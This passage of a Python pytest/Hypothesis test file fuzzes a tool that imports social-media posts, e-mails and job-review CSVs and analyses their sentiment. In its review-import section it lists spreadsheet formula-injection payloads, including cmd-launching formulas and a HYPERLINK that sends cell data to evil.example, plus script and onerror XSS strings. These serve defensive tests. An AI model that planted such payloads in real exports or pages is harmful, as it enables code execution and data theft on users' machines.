    return st.one_of(response, JUNK) if hostile else response


@FAST
@given(response=hn_response(), source=st.sampled_from(["hn:search", "import:hn"]))
def test_hn_responses_with_any_text_and_missing_fields_account_for_every_hit(response, source):
    """Guaranteed when ``hits`` is a list: every element, object or not, is exactly one post or
    one problem, whatever HTML, entities or broken markup the text holds."""
    found, problems = assert_mapped(hn.posts_from_search(response, source), "hn")
    assert len(found) + len(problems) == len(response.get("hits") or [])
    assert all(post.source == source for post in found)
    assert all_storable(found)


@FAST
@given(response=hn_response(hostile=True))
@example(response={"hits": 5})
@example(response={"hits": [{"objectID": "1", "author": "a", "created_at_i": True}]})
def test_hn_responses_with_wrong_typed_fields_never_crash(response):
    found, _ = assert_mapped(hn.posts_from_search(response, "hn"), "hn")
    assert all_storable(found)


# ------------------------------------------------------------------------------ known crashes

_TWEET = {"id": "1", "text": "hi", "author_id": "7"}
_AT = "2026-11-02T09:00:00Z"
_TOOT = {"id": "1", "created_at": _AT, "content": "<p>hi</p>", "account": {"id": "7", "acct": "a"}}
_COMMENT = {"id": "c", "snippet": {"publishedAt": "2026-11-02T09:00:00Z", "textDisplay": "hi"}}


def _listing(*data: dict, kind: str = "t1") -> dict:
    return {"kind": "Listing", "data": {"children": [{"kind": kind, "data": d} for d in data]}}


def _yt_thread(comment: dict) -> dict:
    return {"items": [{"id": "t", "snippet": {"topLevelComment": comment}}]}


def _comment_snippet(**fields: Any) -> dict:
    return {**_COMMENT, "snippet": {**_COMMENT["snippet"], **fields}}


def _mapping_case(
    name: str, call: Callable[[], Any], platform: str, items: int | None = None
) -> Any:
    """One minimal input; ``items``: how many posts it must give (when that is known)."""
    return pytest.param(call, platform, items, id=name)


KNOWN_CRASHES = [
    _mapping_case("x-data-not-a-list", lambda: x.posts_from_page({"data": 5}), "x"),
    _mapping_case(
        "x-includes-not-an-object",
        lambda: x.posts_from_page({"data": [_TWEET], "includes": [1]}),
        "x",
    ),
    _mapping_case(
        "x-public-metrics-not-an-object",
        lambda: x.posts_from_page(
            {"data": [_TWEET], "includes": {"users": [{"id": "7", "public_metrics": [1]}]}}
        ),
        "x",
    ),
    _mapping_case(
        "x-referenced-tweets-not-a-list",
        lambda: x.posts_from_page({"data": [{**_TWEET, "referenced_tweets": "ab"}]}),
        "x",
    ),
    _mapping_case(
        "x-replied-to-without-id",
        lambda: x.posts_from_page(
            {"data": [{**_TWEET, "referenced_tweets": [{"type": "replied_to"}]}]}
        ),
        "x",
    ),
    _mapping_case(
        "x-created-at-out-of-range",
        lambda: x.posts_from_page({"data": [{**_TWEET, "created_at": 1e20}]}),
        "x",
    ),
    _mapping_case(
        "x-snowflake-out-of-range",
        lambda: x.posts_from_page({"data": [{**_TWEET, "id": "9" * 30}]}),
        "x",
    ),
    _mapping_case(
        "x-id-null-becomes-None",
        lambda: x.posts_from_page(
            {"data": [{**_TWEET, "id": None, "created_at": "2026-11-02T09:00:00Z"}]}
        ),
        "x",
        0,
    ),
    _mapping_case(
        "x-username-not-a-string",
        lambda: x.posts_from_page(
            {"data": [_TWEET], "includes": {"users": [{"id": "7", "username": 5}]}}
        ),
        "x",
    ),
    _mapping_case(
        "x-lang-not-a-string", lambda: x.posts_from_page({"data": [{**_TWEET, "lang": [1]}]}), "x"
    ),
    _mapping_case(
        "reddit-data-not-an-object",
        lambda: reddit.posts_from_listing({"kind": "Listing", "data": [1]}),
        "reddit",
    ),
    _mapping_case(
        "reddit-children-not-a-list",
        lambda: reddit.posts_from_listing({"kind": "Listing", "data": {"children": 3}}),
        "reddit",
    ),
    _mapping_case(
        "reddit-child-data-not-an-object",
        lambda: reddit.posts_from_listing(
            {"kind": "Listing", "data": {"children": [{"kind": "t1", "data": [1]}]}}
        ),
        "reddit",
    ),
    _mapping_case(
        "reddit-created-utc-out-of-range",
        lambda: reddit.posts_from_listing(_listing({"id": "a", "body": "x", "created_utc": 1e20})),
        "reddit",
    ),
    _mapping_case(
        "reddit-created-utc-nan",
        lambda: reddit.posts_from_listing(
            _listing({"id": "a", "body": "x", "created_utc": math.nan})
        ),
        "reddit",
    ),
    _mapping_case(
        "reddit-name-not-a-string",
        lambda: reddit.posts_from_listing(_listing({"name": [1], "body": "x", "created_utc": 1})),
        "reddit",
    ),
    _mapping_case(
        "reddit-parent-id-not-a-string",
        lambda: reddit.posts_from_listing(
            _listing({"id": "a", "parent_id": 5, "body": "x", "created_utc": 1})
        ),
        "reddit",
    ),
    _mapping_case(
        "reddit-author-not-a-string",
        lambda: reddit.posts_from_listing(
            _listing({"id": "a", "author": [None], "body": "x", "created_utc": 1})
        ),
        "reddit",
    ),
    _mapping_case(
        "reddit-link-id-not-a-string",
        lambda: reddit.posts_from_listing(
            _listing({"id": "a", "link_id": True, "body": "x", "created_utc": 1})
        ),
        "reddit",
    ),
    _mapping_case(
        "reddit-problem-item-id-not-a-string",
        lambda: reddit.posts_from_listing(_listing({"name": []})),
        "reddit",
    ),
    _mapping_case(
        "youtube-items-not-a-list",
        lambda: youtube.posts_from_comment_threads({"items": 5}),
        "youtube",
    ),
    _mapping_case(
        "youtube-author-channel-id-not-an-object",
        lambda: youtube.posts_from_comment_threads(
            _yt_thread(_comment_snippet(authorChannelId="s"))
        ),
        "youtube",
    ),
    _mapping_case(
        "youtube-published-at-out-of-range",
        lambda: youtube.posts_from_comment_threads(
            _yt_thread(_comment_snippet(publishedAt="9999-12-31T23:59:59-01:00"))
        ),
        "youtube",
    ),
    _mapping_case(
        "youtube-text-not-a-string",
        lambda: youtube.posts_from_comment_threads(_yt_thread(_comment_snippet(textDisplay=5))),
        "youtube",
    ),
    _mapping_case(
        "youtube-thread-id-not-a-string",
        lambda: youtube.posts_from_comment_threads(
            {"items": [{"id": 1, "snippet": {"topLevelComment": _COMMENT}}]}
        ),
        "youtube",
    ),
    _mapping_case(
        "youtube-id-not-a-string",
        lambda: youtube.posts_from_comment_threads(_yt_thread({**_COMMENT, "id": 5})),
        "youtube",
    ),
    # review rows go through the import: they are CSV rows (``_review_import``, below)
    _mapping_case("reviews-rating-nan", lambda: _review_import(rating="nan"), "reviews", 0),
    _mapping_case("reviews-rating-huge", lambda: _review_import(rating="1e400"), "reviews", 0),
    _mapping_case(
        "reviews-rating-two-commas", lambda: _review_import(rating="4,5,1"), "reviews", 0
    ),
    _mapping_case("reviews-id-nul", lambda: _review_import(id="1\x00"), "reviews", 1),
    _mapping_case("reviews-id-1000-chars", lambda: _review_import(id="7" * 1000), "reviews", 1),
    _mapping_case("reviews-site-nul", lambda: _review_import(site="glass\x00door"), "reviews", 1),
    _mapping_case(
        "reviews-created-at-year-1", lambda: _review_import(created_at="0001-01-01"), "reviews", 0
    ),
    _mapping_case("reviews-url-3000-chars", lambda: _review_import(url="h" * 3000), "reviews", 1),
    _mapping_case(
        "reviews-author-1000-chars", lambda: _review_import(author="a" * 1000), "reviews", 1
    ),
    _mapping_case("reviews-title-1mb", lambda: _review_import(title="t" * MB), "reviews", 1),
    _mapping_case(
        "reviews-cons-only-spaces", lambda: _review_import(pros=" ", cons=" "), "reviews", 0
    ),
    _mapping_case(
        "mastodon-reply-loop",
        lambda: mastodon.posts_from_page(
            [
                {**_TOOT, "id": "1", "in_reply_to_id": "2"},
                {**_TOOT, "id": "2", "in_reply_to_id": "1"},
            ]
        ),
        "mastodon",
        2,
    ),
    _mapping_case(
        "mastodon-account-not-an-object",
        lambda: mastodon.posts_from_page([{**_TOOT, "account": "careers"}]),
        "mastodon",
        0,
    ),
    _mapping_case(
        "mastodon-mentions-not-a-list",
        lambda: mastodon.posts_from_page([{**_TOOT, "mentions": {"url": 1}}]),
        "mastodon",
        1,
    ),
    _mapping_case(
        "mastodon-unclosed-markup",
        lambda: mastodon.posts_from_page([{**_TOOT, "content": "<![CDATA[<a href=x"}]),
        "mastodon",
        1,
    ),
]


@pytest.mark.parametrize(("call", "platform", "items"), KNOWN_CRASHES)
def test_known_hostile_payloads_give_problems_not_crashes(call, platform, items):
    """Each minimal input hypothesis found (each crashed once): now posts the store can hold,
    or problems."""
    found, _ = assert_mapped(call(), platform)
    assert items is None or len(found) == items
    assert all_storable(found)


# ------------------------------------------------------------------------------ e-mail

_CHARSETS = st.sampled_from(
    [
        "utf-8",
        "iso-8859-1",
        "windows-1252",
        "koi8-r",
        "utf-16",
        "utf-7",
        "x-unknown",
        "",
        "us-ascii",
        "utf-8\x00",
        "shift_jis",
    ]
)
_ENCODINGS = st.sampled_from(["7bit", "8bit", "base64", "quoted-printable", "x-uuencode", "bogus"])


def _header_value(text: str, charset: str, how: str) -> bytes:
    """One header value as a mailer might write it: raw 8-bit, an encoded word, or broken."""
    if how == "raw":
        return text.encode("utf-8", "surrogatepass")
    if how == "word":
        data = text.encode("utf-8", "surrogatepass").hex()
        return f"=?{charset or 'utf-8'}?b?{data}?=".encode()
    return f"=?{charset}?q?{text[:10]}".encode("utf-8", "surrogatepass")


@st.composite
def mail_bytes(draw) -> bytes:
    """A message shaped like RFC 5322 with random headers, bodies, charsets and MIME parts."""
    headers: list[bytes] = []
    names = [
        "From",
        "To",
        "Cc",
        "Subject",
        "Date",
        "Message-ID",
        "In-Reply-To",
        "References",
        "Auto-Submitted",
        "Content-Type",
        "Content-Transfer-Encoding",
        "X-Failed-Recipients",
    ]
    values = {
        "From": st.sampled_from(
            [
                "Ann <ann@example.com>",
                "ann@example.com",
                "",
                "<>",
                "MAILER-DAEMON@example.com",
                "a@b",
            ]
        ),
        "Date": st.one_of(
            st.sampled_from(
                [
                    "Mon, 2 Nov 2026 10:00:00 +0100",
                    "",
                    "Mon, 2 Nov 2026 10:00:00 -0000",
                    "not a date",
                    "Mon, 2 Nov 2026 25:61:00 +0100",
                ]
            ),
            _MOMENTS.map(lambda d: d.strftime("%a, %d %b %Y %H:%M:%S %z")),
        ),
        "Message-ID": st.sampled_from(
            ["<m1@example.com>", "", "<>", "m1@example.com", "<" + "a" * 300 + "@x>"]
        ),
    }
    for name in draw(st.lists(st.sampled_from(names), max_size=10)) + [
        "From",
        "Date",
        "Message-ID",
    ]:
        text = draw(values.get(name, JSON_TEXT))
        how = draw(st.sampled_from(["plain", "raw", "word", "broken"]))
        charset = draw(_CHARSETS)
        value = (
            text.encode()
            if how == "plain" and text.isascii()
            else _header_value(text, charset, how)
        )
        headers.append(name.encode() + b": " + value)
    body = draw(_body_bytes())
    return b"\r\n".join(headers) + b"\r\n" + body


@st.composite
def _body_bytes(draw) -> bytes:
    charset, encoding = draw(_CHARSETS), draw(_ENCODINGS)
    kind = draw(
        st.sampled_from(
            [
                "text/plain",
                "text/html",
                "multipart/mixed",
                "multipart/alternative",
                "message/delivery-status",
            ]
        )
    )
    text = draw(JSON_TEXT).encode(draw(st.sampled_from(["utf-8", "utf-16", "latin-1"])), "replace")
    raw = draw(st.binary(max_size=40))
    head = (
        f"Content-Type: {kind}; charset={charset}; boundary=b\r\n"
        f"Content-Transfer-Encoding: {encoding}\r\n\r\n"
    ).encode()
    if kind.startswith("multipart"):
        part = b"--b\r\nContent-Type: text/plain; charset=" + charset.encode() + b"\r\n\r\n"
        closing = draw(st.sampled_from([b"--b--\r\n", b"", b"--b"]))
        return head + part + text + b"\r\n" + part + raw + b"\r\n" + closing
    return head + text + raw


def _map_mail(data: bytes) -> Post | None:
    try:
        return post_from_message(data)
    except (IgnoredMessage, MalformedPayloadError):
        return None


@FAST
@given(data=mail_bytes())
@example(
    data=b"From: a@b.example\r\nMessage-ID: <m@x>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000"
    b"\r\n\r\n" + b"any update on my application? " * 33_334
)
@example(
    data=b"From: a@b.example\r\nMessage-ID: <m@x>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000"
    b"\r\nContent-Type: text/html\r\n\r\n" + b"<p>hi<br>" * 100_000
)
@example(
    data=b"From: a@b.example\r\nMessage-ID: <m@x>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000"
    b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"AAAA" * 250_000
)
def test_any_shaped_mail_maps_to_a_post_with_clean_text_or_to_our_errors(data):
    """Random headers, bodies, charsets and broken MIME; 1 MB bodies as explicit examples."""
    post = _map_mail(data)
    if post is None:
        return
    assert_well_formed(post, "email")
    assert_storable(post)
    assert all("\x00" not in r and not _has_surrogate(r) for r in post.recipients)


_MAIL_HEAD = (
    b"From: Ann <a@b.example>\r\nMessage-ID: <x@y>\r\nDate: Mon, 2 Nov 2026 10:00 +0000\r\n"
)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            b"From: a@b.example\r\nMessage-ID: <x@y>\r\n"
            b"Date: Fri, 31 Dec 9999 23:59:59 -0100\r\n\r\nhi",
            id="date-out-of-range",
        ),
        pytest.param(
            b"From: a@b.example\r\nMessage-ID: <x@y>\r\n"
            b"Date: Mon, 1 Jan 1801 10:00:00 +0000\r\n\r\nhi",
            id="date-before-1900",
        ),
    ],
)
def test_mail_that_cannot_be_mapped_raises_only_our_errors(data):
    """Once an ``OverflowError`` from ``astimezone`` escaped ``post_from_message``."""
    with pytest.raises(MalformedPayloadError, match="no readable Date"):
        post_from_message(data)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(_MAIL_HEAD + b"Subject: a\x00b\r\n\r\nhi", id="nul-in-subject"),
        pytest.param(
            b"From: A\x00nn <a@b.example>\r\nMessage-ID: <x@y>\r\n"
            b"Date: Mon, 2 Nov 2026 10:00 +0000\r\n\r\nhi",
            id="nul-in-display-name",
        ),
        pytest.param(
            b"From: Ann <a\x00@b.example>\r\nMessage-ID: <x@y>\r\n"
            b"Date: Mon, 2 Nov 2026 10:00 +0000\r\n\r\nhi",
            id="nul-in-address",
        ),
    ],
)
def test_mail_header_fields_hold_only_what_the_store_can_hold(data):
    """``mail._Headers.decoded`` once returned ASCII values as sent: a NUL reached the post."""
    post = post_from_message(data)
    assert_storable(post)
    assert (post.author_email, post.author_name or "Ann", post.subject or "ab") == (
        "a@b.example",
        "Ann",
        "ab",
    )


def test_mail_body_nul_is_removed_like_the_mapping_promises():
    assert post_from_message(_MAIL_HEAD + b"\r\nsee\x00 you").text == "see you"


# ------------------------------------------------------------------------------ import files


@contextlib.contextmanager
def _file(content: bytes, suffix: str) -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="hostile-") as folder:
        path = Path(folder) / f"export{suffix}"
        path.write_bytes(content)
        yield path


def _imported(path: Path, file_format: str) -> tuple[list[Post], list[Problem]]:
    found: list[Post] = []
    problems: list[Problem] = []
    for batch in import_batches(path, file_format):
        assert batch.source == f"import:{file_format}" and batch.items_read == len(batch.posts)
        found += batch.posts
        problems += batch.problems
    return found, problems


_CSV_VALUE = {
    "platform": st.sampled_from(["x", "reddit", "email", "youtube", "X ", " ", ""]),
    "id": st.one_of(st.text(max_size=8), SNOWFLAKE),
    "created_at": ISO_TIME,
    "author": st.one_of(st.text(max_size=12), st.just("@sam")),
}


@st.composite
def csv_file(draw) -> tuple[bytes, list[str], int]:
    """A CSV of random rows under a random header (columns missing, reordered, extra)."""
    header = draw(
        st.lists(st.sampled_from([*CSV_COLUMNS, "extra", "Text", " id"]), min_size=1, max_size=10)
    )
    rows = draw(st.lists(st.tuples(*[_CSV_VALUE.get(c, FILE_TEXT) for c in header]), max_size=8))
    rows = [
        list(row)[: draw(st.integers(1, len(row) + 2))] + draw(st.lists(FILE_TEXT, max_size=1))
        for row in rows
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    bom = draw(st.sampled_from(["", "\ufeff"]))
    return (bom + buffer.getvalue()).encode("utf-8"), header, len(rows)


@FAST
@given(spec=csv_file())
def test_csv_import_maps_every_row_or_names_the_missing_column(spec):
    """A missing required column is ``ImportFormatError``; else each row is a post or a
    problem with its line number."""
    content, header, rows = spec
    missing = [c for c in CSV_REQUIRED if c not in header]
    with _file(content, ".csv") as path:
        if missing:
            with pytest.raises(ImportFormatError, match=missing[0]):
                _imported(path, "csv")
            return
        found, problems = _imported(path, "csv")
    assert len(found) + len(problems) == rows
    for post in found:
        assert_well_formed(post, post.platform)
        assert_typed(post)
        assert post.platform == post.platform.strip().lower() and post.platform
    assert all(p.reason.startswith("line ") for p in problems)


_CSV_HEAD = b"platform,id,author,created_at,text\n"
_CSV_ROW = b"x,1,sam,2026-11-02T09:00:00Z,"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(_CSV_HEAD + _CSV_ROW + b"a" * MB + b"\n", id="1MB-text-field"),
        pytest.param(_CSV_HEAD + _CSV_ROW + b"caf\xe9\n", id="not-utf8"),
        pytest.param(_CSV_HEAD + b"x,1,sam,0001-01-01T00:00:00+01:00,hi\n", id="time-out-of-range"),
    ],
)
def test_csv_rows_that_cannot_be_read_become_problems_and_the_rest_is_kept(content):
    """Once csv.Error, UnicodeDecodeError and OverflowError stopped the whole import."""
    content += b"x,2,ann,2026-11-02T10:00:00Z,still here\n"
    with _file(content, ".csv") as path:
        found, problems = _imported(path, "csv")
    assert [p.external_id for p in found][-1] == "2" and len(found) + len(problems) == 2
    assert all(p.reason.startswith("line 2: ") for p in problems)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(
            _CSV_ROW + b"caf\xe9\n", "line 2: not UTF-8 text (column text, byte 4)", id="not-utf8"
        ),
        pytest.param(
            _CSV_ROW + b"a" * (17 * MB) + b"\n",
            "line 2: field larger than field limit",
            id="17MB-field",
        ),
    ],
)
def test_a_csv_row_that_cannot_be_read_names_its_line(content, reason):
    with _file(_CSV_HEAD + content, ".csv") as path:
        found, problems = _imported(path, "csv")
    assert found == [] and [p.reason[: len(reason)] for p in problems] == [reason]


def test_csv_reads_a_1mb_text_and_keeps_its_first_64kb_emoji_intact(tmp_path):
    """A text far over csv's default 128 KiB field limit is read, not refused; the post keeps
    its first 64 KB (the cap), cut between characters so no emoji is halved, without the NUL
    characters PostgreSQL cannot hold, and says what was cut."""
    text = ("\x00 any update? 😊 " * 60_000)[:MB]
    path = tmp_path / "big.csv"
    path.write_bytes(_CSV_HEAD + _CSV_ROW + text.encode() + b"\n")
    found, problems = _imported(path, "csv")
    [post] = found
    kept = post.text.encode("utf-8")
    assert problems == [] and MAX_TEXT_BYTES - 4 < len(kept) <= MAX_TEXT_BYTES
    assert text.replace("\x00", "").startswith(post.text)
    assert "text cut to its first 64 KB" in post.notes[0]


# ------------------------------------------------------------------------------ review sites

_REVIEW_VALUE = {
    "site": st.sampled_from(["glassdoor", "Indeed ", "kununu", "glass door", " ", "x" * 70]),
    "id": st.one_of(st.text(max_size=8), SNOWFLAKE),
    "created_at": ISO_TIME,
    "rating": st.one_of(
        st.sampled_from(["", "1", "5", "4,6", "0", "6", "nan", "inf", "-1", "1e400", "4.5.1"]),
        st.text(max_size=4),
    ),
}
_REVIEW_HEADERS = [*reviews.COLUMNS, "Review Id", "Summary", "Rating Overall", "extra", " ID"]


@st.composite
def reviews_file(draw) -> tuple[bytes, list[str], int]:
    """A review CSV of random rows under a random header (ours, the sites' names, missing,
    repeated, extra)."""
    header = draw(st.lists(st.sampled_from(_REVIEW_HEADERS), min_size=1, max_size=12))
    canonical = reviews.canonical_header(header)
    rows = draw(
        st.lists(st.tuples(*[_REVIEW_VALUE.get(c, FILE_TEXT) for c in canonical]), max_size=8)
    )
    rows = [
        list(row)[: draw(st.integers(1, len(row) + 2))] + draw(st.lists(FILE_TEXT, max_size=1))
        for row in rows
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    bom = draw(st.sampled_from(["", "\ufeff"]))
    return (bom + buffer.getvalue()).encode("utf-8"), header, len(rows)


@FAST
@given(spec=reviews_file())
def test_reviews_import_maps_every_row_or_refuses_the_file_in_one_line(spec):
    """A header that is not a reviews CSV is one ``ImportFormatError`` line; else each row is
    a review the store can hold (stars from 1 to 5 or none) or a problem with its line."""
    content, header, rows = spec
    problem = reviews.header_problem(reviews.canonical_header(header))
    with _file(content, ".csv") as path:
        if problem:
            with pytest.raises(ImportFormatError, match="is not a reviews CSV") as refused:
                _imported(path, "reviews")
            assert "\n" not in str(refused.value)
            return
        found, problems = _imported(path, "reviews")
    assert len(found) + len(problems) == rows
    for post in found:
        assert_well_formed(post, "reviews")
        assert_storable(post)
        assert post.rating is None or (isinstance(post.rating, float) and 1 <= post.rating <= 5)
        assert post.author_id == post.thread_key == post.external_id
    assert all(p.reason.startswith("line ") for p in problems)


def _review_import(**fields: str) -> tuple[list[Post], list[Problem]]:
    """One review row (a valid one with ``fields`` changed) through the ``reviews`` import."""
    row = {"site": "glassdoor", "id": "1", "created_at": _AT, "pros": "Pay", **fields}
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, list(row))
    writer.writeheader()
    writer.writerow(row)
    with _file(buffer.getvalue().encode("utf-8", "surrogatepass"), ".csv") as path:
        return _imported(path, "reviews")


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HTML_IN_REVIEW = '<b>bold</b><img src=x onerror="alert(1)"><script>alert(2)</script>'


@pytest.mark.parametrize("field", ["title", "pros", "cons", "text", "author"])
@pytest.mark.parametrize("value", [*FORMULAS, HTML_IN_REVIEW])
def test_a_review_keeps_formulas_and_html_as_plain_text_and_no_csv_runs_them(field, value):
    """A review is stored with its words exactly as written (nothing evaluated, nothing
    stripped), and a spreadsheet opening a download of it runs no formula."""
    found, problems = _review_import(**{field: value})
    [post] = found
    assert problems == []
    assert value in (post.author_handle if field == "author" else post.text)
    cells = list(
        csv.reader(
            io.StringIO(
                spreadsheet_csv(
                    pd.DataFrame({"Author": [post.author_handle], "Post": [post.text]})
                ).decode("utf-8")
            )
        )
    )
    assert [c for row in cells for c in row if c.startswith(("=", "+", "-", "@"))] == []


@st.composite
def twarc2_file(draw) -> tuple[bytes, list[Any]]:
    """JSONL lines: X pages, random JSON, broken JSON text and blank lines."""
    lines = draw(
        st.lists(
            st.one_of(
                x_page().map(lambda p: ("page", p)),
                JUNK.filter(lambda j: not isinstance(j, dict)).map(lambda j: ("json", j)),
                FILE_TEXT.filter(lambda t: not set(t) & {"\r", "\n"}).map(lambda t: ("text", t)),
                st.just(("blank", "")),
            ),
            max_size=6,
        )
    )
    out = []
    for kind, value in lines:
        out.append(json.dumps(value) if kind in ("page", "json") else value)
    return "\n".join(out).encode("utf-8") + b"\n", lines


def _twarc2_items(lines: list[tuple[str, Any]]) -> int:
    count = 0
    for kind, value in lines:
        if kind == "blank" or (kind == "text" and not value.strip()):
            continue
        try:
            page = json.loads(value) if kind == "text" else value
        except json.JSONDecodeError:
            count += 1
            continue
        count += 1 if not isinstance(page, dict) else (_x_items(page) or 0)
    return count


def _an_x_page(kind: str, value: Any) -> bool:
    """The README's rule for a twarc2 line: a JSON object with ``data``, ``includes``, ``meta``
    or ``errors`` (a list or an object) and no Reddit ``kind``."""
    if kind == "text":
        try:
            value = json.loads(value)
        except ValueError:
            return False
    return (
        isinstance(value, dict)
        and "kind" not in value
        and any(
            isinstance(value.get(k), (list, dict)) for k in ("data", "includes", "meta", "errors")
        )
    )


@FAST
@given(spec=twarc2_file())
def test_twarc2_import_maps_every_tweet_or_reports_its_line(spec):
    """A file with no X page at all is not a twarc2 file and is refused whole; in one with a
    page, every other line is a problem with its number."""
    content, lines = spec
    with _file(content, ".jsonl") as path:
        if not any(_an_x_page(kind, value) for kind, value in lines):
            with pytest.raises(ImportFormatError, match="export.jsonl"):
                _imported(path, "twarc2")
            return
        found, problems = _imported(path, "twarc2")
    assert_mapped((found, problems), "x")
    assert len(found) + len(problems) == _twarc2_items(lines)
    assert all(p.reason.startswith("line ") for p in problems)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b'{"data": []}\n\xff\n', id="not-utf8"),
        pytest.param(b"[" * 100_000 + b"\n", id="deep-nesting"),
        pytest.param(b'{"data": ' + b"9" * 5000 + b"}\n", id="int-over-4300-digits"),
        pytest.param(b'{"data": 5}\n', id="x-data-not-a-list"),
    ],
)
def test_twarc2_lines_that_cannot_be_read_become_problems_and_the_rest_is_kept(content):
    """Once UnicodeDecodeError, RecursionError, ValueError and TypeError stopped the import."""
    good = json.dumps({"data": [{**_TWEET, "created_at": "2026-11-02T09:00:00Z"}]}).encode()
    with _file(content + good + b"\n", ".jsonl") as path:
        found, problems = _imported(path, "twarc2")
    assert [p.external_id for p in found] == ["1"] and problems
    assert all(p.reason.startswith(("line 1: ", "line 2: ")) for p in problems)


def test_a_twarc2_line_with_nan_is_refused_because_postgresql_json_cannot_hold_it():
    page = b'{"data": [{"id": "1", "text": "hi", "author_id": "7", "score": NaN}]}\n'
    with _file(page + b'{"meta": {"result_count": 0}}\n', ".jsonl") as path:
        found, problems = _imported(path, "twarc2")
    assert found == [] and [p.reason for p in problems] == ["line 1: not JSON (NaN is not JSON)"]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"[" * 100_000, id="deep-nesting"),
        pytest.param(b"[" + b"9" * 5000 + b"]", id="int-over-4300-digits"),
        pytest.param(
            b'{"kind": "Listing", "data": {"children": []}, "x": Infinity}', id="infinity"
        ),
        pytest.param(b'{"kind": "Listing", "caf\xe9": 1}', id="not-utf8"),
    ],
)
def test_a_reddit_json_file_json_cannot_take_is_an_import_format_error(content):
    """``_reddit_thread`` once caught only JSONDecodeError; RecursionError and ValueError
    escaped."""
    with _file(content, ".json") as path, pytest.raises(ImportFormatError, match="export.json"):
        _imported(path, "reddit-json")


# ------------------------------------------------------------------------------ analysis

_INTENTS = {None, "question", "request", "complaint", "chase"}


def _assert_facts(facts, is_brand: bool) -> None:
    assert isinstance(facts.needs_response, bool)
    assert facts.intent in _INTENTS and (facts.intent is None) == (not facts.needs_response)
    assert -1.0 <= facts.sentiment <= 1.0 and not math.isnan(facts.sentiment)
    assert facts.sentiment_label in ("positive", "neutral", "negative")
    assert not (is_brand and facts.needs_response)
    assert is_brand or facts.promise is None
    assert facts.promise is None or facts.promise.hours > 0


@FAST
@given(
    text=st.one_of(JSON_TEXT, st.text(st.characters(exclude_categories=()), max_size=200)),
    is_brand=st.booleans(),
    lang=st.one_of(
        st.none(), st.sampled_from(["en", "nl-NL", "de", "und", "qme", ""]), st.text(max_size=6)
    ),
)
def test_analyse_text_takes_any_unicode(text, is_brand, lang):
    _assert_facts(analyse_text(text, is_brand, lang), is_brand)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("", id="empty"),
        pytest.param("any update on my application? " * 33_334, id="1MB-question"),
        pytest.param("\x00" * MB, id="1MB-nul"),
        pytest.param(" \n\t" * (MB // 3), id="1MB-whitespace"),
        pytest.param("面接の日程はいつですか" * (MB // 11), id="1MB-cjk"),
        pytest.param("a" * MB, id="1MB-one-word"),
        pytest.param(("@NorthwindLabs any update? 😊\n" * 40_000)[:MB], id="1MB-update-emoji"),
        pytest.param(
            ("Great team, but I never heard back. Not bad at all! " * 20_000)[:MB], id="1MB-prose"
        ),
        pytest.param(
            ("please is there any update? thanks for nothing, cheers " * 20_000)[:MB],
            id="1MB-signoff-line",
        ),
    ],
)
def test_analyse_text_survives_1mb_texts(text):
    """1 MB texts of every kind. Prose, emoji lines and one long line of questions and
    sign-offs once took time growing with the square of the length (128 KB of "any update? 😊"
    lines: two minutes); how long they take now is ``bench/long_text.py``'s business."""
    for is_brand in (False, True):
        _assert_facts(analyse_text(text, is_brand), is_brand)


def test_scoring_is_cut_at_max_scored_chars():
    """Only the first ``MAX_SCORED_CHARS`` characters are scored: what follows them cannot
    change the score (no platform allows a post that long)."""
    head = ("Terrible process, never heard back. " * 3000)[: sentiment.MAX_SCORED_CHARS]
    assert sentiment.score(head) < -0.9
    assert sentiment.score(head + " wonderful amazing great" * 1000) == sentiment.score(head)


_VADER_WORDS = st.sampled_from(
    [
        "good",
        "bad",
        "but",
        "BUT",
        "not",
        "isn't",
        "very",
        "no",
        "never",
        "so",
        "this",
        "kind",
        "of",
        "GREAT",
        "without",
        "doubt",
        "the",
        "bomb",
        "least",
        "at",
        "love",
        "hate",
        "😊",
        "😡",
        "nor",
        "or",
        "kinda",
        "sort",
        "yeah",
        "right",
        "!",
        "?",
        ":)",
        "Nope",
        "NOT",
        "extremely",
    ]
)


@FAST
@given(words=st.lists(_VADER_WORDS, max_size=40))
def test_the_linear_vader_scores_exactly_like_the_library(words):
    """``sentiment._Analyzer`` reimplements VADER's negation, idiom and "but" steps in linear
    time; on texts dense with what those steps look at it must give the library's scores."""
    text = " ".join(words)
    assert sentiment._Analyzer().polarity_scores(text) == _PLAIN_VADER.polarity_scores(text)


_SIGNOFF_PIECES = st.sampled_from(
    [
        "?",
        "please",
        "Please",
        "thanks",
        "Thanks",
        "many",
        "Many",
        "thank",
        "you",
        "cheers",
        ",",
        "!",
        ".",
        " ",
        "   ",
        "\n",
        "\t",
        "Lena",
        "Van",
        "J.",
        "lena",
        "x",
        "pleased",
        "İ",
        "\u00a0",
    ]
)


@FAST
@given(pieces=st.lists(_SIGNOFF_PIECES, max_size=16))
def test_the_linear_signoff_rule_rewrites_exactly_like_its_regex(pieces):
    """The sign-off rule ("…? Thanks, Lena") runs in linear time instead of through its regex,
    whose cost grows with the square of a line; the result must be the regex's, exactly."""
    text = "".join(pieces)
    assert sentiment._strip_signoffs(text) == sentiment.SIGNOFF_RULE.sub(" \\g<asked> ", text)


def _stream(lines: list[bytes]) -> tuple[int, list[str], list[str]]:
    """Run analyze_stream with the CLI's streams: UTF-8 stdout (strict), stderr."""
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict", newline="\n")
